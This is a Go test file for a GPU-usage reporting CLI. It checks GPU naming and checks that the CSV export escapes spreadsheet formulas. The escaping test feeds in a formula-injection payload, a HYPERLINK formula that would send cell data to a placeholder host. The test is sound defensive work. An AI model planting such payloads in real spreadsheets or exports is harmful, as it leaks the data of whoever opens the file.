package cli

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"testing"

	"ration/check/expect"
	"ration/internal/usage"
)

// In the HTML report a GPU has the name that people know; a GPU that was replaced keeps its UUID.
func TestNamesOfGPUs(t *testing.T) {
	lines := []usage.Line{{GPU: "GPU-a"}, {GPU: "GPU-gone"}}
	nameGPUs(lines, map[string]string{"GPU-a": "0 NVIDIA H200"})
	expect.True(t, lines[0].GPU == "0 NVIDIA H200" && lines[1].GPU == "GPU-gone", lines)
}

// A spreadsheet takes no name that a user has chosen for a formula.
func TestReportHasNoFormulas(t *testing.T) {
	var out bytes.Buffer
	expect.OK(t, writeCSV(&app{out: newTerminal(&out)}, usage.Report{Lines: []usage.Line{
		{User: "ada", Project: `=HYPERLINK("http://x/?"&A1,"x")`}, {Project: "+1"}, {Project: "-1"}, {Project: "@SUM(A1)"}, {Project: "vision = 1"}, {},
	}}))
	records, err := csv.NewReader(&out).ReadAll()
	expect.OK(t, err)
	var got []string
	for _, r := range records[1:] {
		got = append(got, r[1])
	}
	expect.Equal(t, fmt.Sprint(got), `['=HYPERLINK("http://x/?"&A1,"x") '+1 '-1 '@SUM(A1) vision = 1 ]`)
}
